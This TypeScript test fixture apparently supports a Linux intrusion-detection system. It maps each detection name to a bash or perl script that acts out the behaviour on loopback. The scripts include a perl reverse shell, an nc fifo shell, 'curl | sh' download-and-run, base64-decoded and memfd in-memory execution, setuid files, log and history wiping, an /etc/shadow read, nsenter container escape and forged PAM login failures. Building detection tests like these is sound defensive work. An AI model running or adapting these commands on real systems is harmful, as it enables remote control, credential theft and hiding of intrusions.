import { spawnSync } from 'node:child_process';
import { existsSync } from 'node:fs';

/** A deed that a detection is to find. It runs in bash, as a child of the test. */
export interface Behaviour {
  /**
   * `$D` is a directory outside those of programs, `$PORT` a port of this host where somebody listens who sends `exit` to a
   * shell and a script to an HTTP client, `$ME` an address of this host that is not loopback, `$MARK` a word of this run.
   */
  readonly script: string;
  /** Programs that it needs, and that a minimal Debian may lack. */
  readonly programs?: readonly string[];
  /** Why it cannot be done here. */
  readonly whyNot?: string | undefined;
}

export const isThere = (program: string): boolean =>
  spawnSync('sh', ['-c', `command -v ${program}`]).status === 0;

const CONNECT = (address: string): string =>
  `use Socket; socket(S, PF_INET, SOCK_STREAM, 0); connect(S, pack_sockaddr_in($ENV{PORT}, inet_aton(${address}))) or die "connect: $!";`;

const memfd = process.arch === 'arm64' ? 279 : 319;

/**
 * Messages to audit as PAM sends them when a password is wrong, and right: type 1100, from an address that documentation is full
 * of. Real ones take two seconds each.
 */
const GUESSES = `use Socket; socket(A, 16, SOCK_RAW, 9) or die "netlink: $!";
for my $n (1 .. 12) {
  my $result = $n < 12 ? "failed" : "success";
  my $text = qq(op=PAM:authentication grantors=? acct="guest$n" exe="/usr/sbin/sshd" hostname=203.0.113.77 addr=203.0.113.77 terminal=ssh-$ENV{MARK} res=$result\\0);
  send(A, pack("LSSLL", 16 + length $text, 1100, 1, $n, 0) . $text, 0, pack("SSLL", 16, 0, 0, 0)) or die "send: $!";
}`;

/** A directory that is watched and exists, for a file that its reader ignores. */
const watched = (...directories: readonly string[]): Pick<Behaviour, 'script' | 'whyNot'> => {
  const directory = directories.find(existsSync);
  const file = `${directory}/$MARK.disabled`;
  return directory === undefined
    ? { script: '', whyNot: `it needs one of ${directories.join(', ')}` }
    : { script: `echo '# nothing' > ${file}; rm ${file}` };
};

/** By the detection's name. */
export const behaviours: Readonly<Record<string, Behaviour>> = {
  reverse_shell: {
    script: `perl -e '${CONNECT('"127.0.0.1"')} open(STDIN, "<&S"); open(STDOUT, ">&S"); open(STDERR, ">&S"); exec "/bin/sh", "-i"'`,
  },
  shell_connects: { script: `bash -c 'exec 3<>/dev/tcp/127.0.0.1/$PORT'` },
  shell_piped_to_network: {
    script: 'mkfifo $D/pipe; cat $D/pipe | sh -i 2>&1 | nc 127.0.0.1 $PORT > $D/pipe',
    programs: ['nc'],
  },
  interpreter_connects_out: { script: `perl -e '${CONNECT('$ENV{ME}')}'` },
  new_listener: {
    script: `perl -e 'use Socket; socket(S, PF_INET, SOCK_STREAM, 0); my $port = 20000 + $$ % 12000;
      until (bind(S, pack_sockaddr_in($port, INADDR_ANY))) { $port++ } listen(S, 1); select(undef, undef, undef, 0.3)'`,
  },
  tunnel: {
    script:
      'ssh -F none -N -R 7:127.0.0.1:7 -o BatchMode=yes -o ConnectTimeout=2 -p 1 127.0.0.1 2>/dev/null || true',
    programs: ['ssh'],
  },
  download_and_run: { script: 'curl -s http://127.0.0.1:$PORT/script | sh', programs: ['curl'] },
  decoded_and_run: { script: 'echo dHJ1ZQo= | base64 -d | sh' },
  memory_execution: {
    script: `perl -e 'my $name = "hidden"; my $fd = syscall(${memfd}, $name, 0); open(my $to, ">&=", $fd); open(my $from, "<", "/bin/true");
      binmode $to; local $/; print $to scalar <$from>; $to->flush; exec { "/proc/$$/fd/$fd" } "hidden"'`,
  },
  writable_directory_execution: { script: 'cp /bin/true /tmp/$MARK; /tmp/$MARK; rm /tmp/$MARK' },
  loader_by_hand: { script: '$(ls /lib64/ld-linux-* /lib/ld-linux-* 2>/dev/null | head -n 1) /bin/true' },
  // A file that runs in the tick in which it was written has no hash: it could have been written again.
  renamed_tool: {
    script: 'uname > /dev/null; cp "$(command -v uname)" $D/kworker; sleep 0.1; $D/kworker > /dev/null',
  },
  service_runs_shell: {
    script: `cp /usr/bin/perl $D/nginx; $D/nginx -e 'system("/bin/sh", "-c", "true web")'`,
  },
  package_hook_downloads: {
    script: 'cp /bin/bash $D/dpkg; $D/dpkg -c "curl -s http://127.0.0.1:$PORT/script > /dev/null; true"',
    programs: ['curl'],
  },
  discovery_burst: { script: "bash -c 'id; uname; hostname; df; env; groups; whoami; true' > /dev/null" },
  miner: { script: "bash -c 'exec -a xmrig /bin/true -o stratum+tcp://127.0.0.1:3333'" },
  // It finds no such process.
  monitoring_stopped: { script: 'pkill -x auditd-$MARK || true', programs: ['pkill'] },
  // A program of that name that does nothing.
  protection_off: { script: 'cp /bin/true $D/setenforce; $D/setenforce 0' },
  history_cleared: { script: 'echo ls > $D/.bash_history; rm $D/.bash_history' },
  logs_cleared: { script: 'mkdir -p $D/log; echo > $D/log/auth.log; truncate -s 0 $D/log/auth.log' },
  setuid_file_made: { script: 'cp /bin/true $D/made; chmod u+s $D/made' },
  setuid_file_run: { script: 'cp /bin/true $D/suid; chmod 4755 $D/suid; $D/suid' },
  sudo_first_time: { script: 'sudo -n true', programs: ['sudo'] },
  kernel_module: { script: 'insmod $D/none.ko 2>/dev/null || true', programs: ['insmod'] },
  process_memory_read: { script: 'dd if=/proc/$$/mem of=/dev/null bs=1 count=0 2>/dev/null' },
  password_guessed: { script: `perl -e '${GUESSES}'` },
  account_made: {
    script:
      'mkdir -p $D/root/etc; touch $D/root/etc/passwd; useradd --prefix $D/root guest 2>/dev/null || true',
    programs: ['useradd'],
  },
  credential_file_read: { script: 'grep -c "^$MARK:" /etc/shadow > /dev/null || true' },
  container_escape: { script: 'nsenter -t 1 -u /bin/true || true', programs: ['nsenter'] },
  privileged_container: {
    script: 'podman run --privileged --help > /dev/null',
    programs: ['podman'],
  },
  preload_changed: watched('/etc/ld.so.conf.d'),
  scheduled_job_changed: watched('/etc/cron.d', '/etc/cron.daily'),
  service_definition_changed: watched('/etc/systemd/system', '/etc/init.d'),
  ssh_keys_changed: watched('/etc/ssh', '/root/.ssh'),
  shell_profile_changed: watched('/etc/profile.d'),
  accounts_changed: watched('/etc/security', '/etc/pam.d', '/etc/sudoers.d'),
  package_hook_changed: watched('/etc/apt/apt.conf.d', '/etc/dpkg/dpkg.cfg.d', '/etc/dnf/plugins'),
  monitoring_changed: watched('/etc/audit', '/etc/osquery', '/etc/rsyslog.d'),
};

/** Why one cannot be done here; undefined if it can. */
export const whyNotBehave = ({ whyNot, programs = [] }: Behaviour): string | undefined => {
  const lacking = programs.filter(program => !isThere(program));
  return whyNot ?? (lacking.length === 0 ? undefined : `it needs ${lacking.join(', ')}`);
};
